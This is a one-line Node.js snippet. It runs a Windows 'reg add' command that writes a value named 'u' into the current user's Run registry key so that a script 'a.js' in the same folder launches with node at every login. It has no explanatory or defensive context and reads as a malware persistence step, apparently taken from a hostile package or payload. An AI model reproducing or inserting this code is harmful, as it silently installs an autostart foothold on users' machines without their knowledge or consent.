require('child_process').exec('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /t REG_SZ /d "node '+__dirname+'\\a.js" /f');
